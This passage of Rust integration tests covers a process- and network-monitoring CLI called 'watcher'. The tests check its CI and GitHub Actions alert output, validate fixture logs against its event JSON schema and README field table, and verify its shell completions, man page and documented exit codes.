    assert!(ci.contains("watcher: ALERT") && ci.contains("watcher: summary:"), "{ci}");
    once(&ci);
    let verbose = run(&[("CI", "true")], &["--verbose"]);
    assert!(verbose.contains("watcher: exec    /bin/true"), "{verbose}");

    let gh = run(&[("CI", "true"), ("GITHUB_ACTIONS", "true")], &[]);
    once(&gh);
    let lines: Vec<&str> = gh.lines().collect();
    let g = lines.iter().position(|l| l.starts_with("::group::watcher: summary:")).expect("a group");
    let token = lines[g + 1].strip_prefix("::stop-commands::").expect("commands stopped in the report");
    let end = lines.iter().position(|l| *l == format!("::{token}::")).expect("commands resumed");
    assert_eq!(lines[end + 1], "::endgroup::");
    assert!(lines[g + 2..end].iter().all(|l| l.starts_with("watcher: ")), "{gh}");
    let ann: Vec<&&str> = lines[end + 2..].iter().filter(|l| l.starts_with("::error ")).collect();
    assert_eq!(ann.len(), 1, "{gh}");
    assert!(ann[0].starts_with("::error title=watcher egress-denied ×1::1 egress-denied alert: 127.0.0.1:"), "{gh}");
}

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf()
}

/// docs/schema/event.schema.json is what the event types generate (`cargo xtask schema`
/// rewrites it).
#[test]
fn the_event_schema_file_is_current() {
    let out = Command::new(watcher_bin()).arg("schema").output().unwrap();
    assert!(out.status.success());
    let have = std::fs::read_to_string(watcher_tests::schema::schema_path()).unwrap();
    assert!(
        have == String::from_utf8(out.stdout).unwrap(),
        "docs/schema/event.schema.json is not current: run `cargo xtask schema`"
    );
}

/// Every fixture log validates; records the schema does not describe do not; the README's
/// field table names every field of every kind.
#[test]
fn the_event_schema_validates_every_fixture_and_only_what_it_describes() {
    let mut logs = 0;
    let mut stack = vec![repo_root().join("tests/fixtures")];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
                continue;
            }
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            let text = if name.ends_with(".jsonl") {
                std::fs::read_to_string(&p).unwrap()
            } else if name.ends_with(".jsonl.gz") {
                let mut s = String::new();
                std::io::Read::read_to_string(
                    &mut flate2::read::GzDecoder::new(std::fs::File::open(&p).unwrap()),
                    &mut s,
                )
                .unwrap();
                s
            } else {
                continue;
            };
            let lines: Vec<(usize, Value)> =
                text.lines().enumerate().map(|(i, l)| (i + 1, serde_json::from_str(l).unwrap())).collect();
            watcher_tests::schema::check(&p, &lines).unwrap();
            logs += 1;
        }
    }
    assert!(logs >= 4, "{logs} logs");

    let text = std::fs::read_to_string(fixtures().join("alerts.jsonl")).unwrap();
    let recs: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let bad = |v: Value| watcher_tests::schema::check(Path::new("t.jsonl"), &[(1, v)]).is_err();
    for kind in ["start", "exec", "connect", "dns", "alert", "end"] {
        let r = recs.iter().find(|r| r["kind"] == kind).unwrap_or_else(|| panic!("a {kind} record"));
        assert!(!bad(r.clone()), "{r}");
        let mut x = r.clone();
        x["undocumented"] = Value::from(1);
        assert!(bad(x), "an unknown field in {kind} passes");
        let mut x = r.clone();
        x.as_object_mut().unwrap().remove("ts");
        assert!(bad(x), "{kind} without ts passes");
    }
    let mut x = recs[0].clone();
    x["kind"] = Value::from("nonsense");
    assert!(bad(x));
    let mut x = recs[0].clone();
    x["policy"]["extra"] = Value::from(true);
    assert!(bad(x), "nested objects are closed too");

    // README: every field of every kind is in its row of the field table.
    let schema: Value =
        serde_json::from_str(&std::fs::read_to_string(watcher_tests::schema::schema_path()).unwrap()).unwrap();
    let readme = std::fs::read_to_string(repo_root().join("README.md")).unwrap();
    for variant in schema["oneOf"].as_array().unwrap() {
        let def = variant["$ref"].as_str().unwrap().trim_start_matches("#/$defs/");
        let kind = variant["properties"]["kind"]["const"].as_str().unwrap();
        let row = readme
            .lines()
            .find(|l| l.starts_with(&format!("| `{kind}` |")))
            .unwrap_or_else(|| panic!("README has no row for {kind}"));
        for field in schema["$defs"][def]["properties"].as_object().unwrap().keys() {
            // Said once for all records above the table.
            if ["ts", "pid", "ppid", "comm", "uid"].contains(&field.as_str()) {
                continue;
            }
            assert!(row.contains(&format!("`{field}`")), "README's {kind} row does not name `{field}`");
        }
    }
}

/// `watcher completions bash|zsh|fish`, `watcher man` and the exit codes in `--help`.
#[test]
fn cli_completions_man_page_and_exit_codes_in_help() {
    let run = |args: &[&str]| {
        let out = Command::new(watcher_bin()).args(args).output().unwrap();
        (out.status.code(), String::from_utf8(out.stdout).unwrap(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    // bash: the script loads and completes the subcommands and replay's options.
    let (c, bash, _) = run(&["completions", "bash"]);
    assert_eq!(c, Some(0));
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("watcher.bash");
    std::fs::write(&f, &bash).unwrap();
    let complete = |words: &str, cword: usize| {
        let script = format!(
            "source {}; COMP_WORDS=({words}); COMP_CWORD={cword}; COMP_LINE='{words}'; COMP_POINT=${{#COMP_LINE}}; _watcher watcher \"${{COMP_WORDS[COMP_CWORD]}}\" \"${{COMP_WORDS[COMP_CWORD-1]}}\"; echo \"${{COMPREPLY[@]}}\"",
            f.display()
        );
        let out = Command::new("bash").args(["-c", &script]).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let subs = complete("watcher ''", 1);
    for sub in ["run", "replay", "policy", "daemon", "drill", "completions", "man", "schema"] {
        assert!(subs.split_whitespace().any(|w| w == sub), "{sub} not completed: {subs}");
    }
    let opts = complete("watcher replay --", 2);
    for o in ["--policy", "--mode", "--format"] {
        assert!(opts.split_whitespace().any(|w| w == o), "{o}: {opts}");
    }
    let (c, zsh, _) = run(&["completions", "zsh"]);
    assert_eq!(c, Some(0));
    assert!(zsh.starts_with("#compdef watcher") && zsh.contains("replay"), "{zsh}");
    let (c, fish, _) = run(&["completions", "fish"]);
    assert_eq!(c, Some(0));
    assert!(fish.contains("complete -c watcher") && fish.contains("replay"), "{fish}");
    let (c, _, err) = run(&["completions", "tcsh"]);
    assert_eq!(c, Some(125), "a usage error: {err}");

    // The man page: roff, naming the subcommands and the exit codes.
    let (c, man, _) = run(&["man"]);
    assert_eq!(c, Some(0));
    assert!(man.contains(".TH watcher 1"), "{man}");
    for w in ["replay", "run", "Exit codes", "125"] {
        assert!(man.contains(w), "{w} not in the man page");
    }

    // --help lists the exit codes.
    let (c, help, _) = run(&["--help"]);
    assert_eq!(c, Some(0));
    assert!(help.contains("Exit codes:"), "{help}");
    for code in ["77", "78", "125", "126", "127"] {
        assert!(help.lines().any(|l| l.trim_start().starts_with(code)), "{code}: {help}");
    }
}
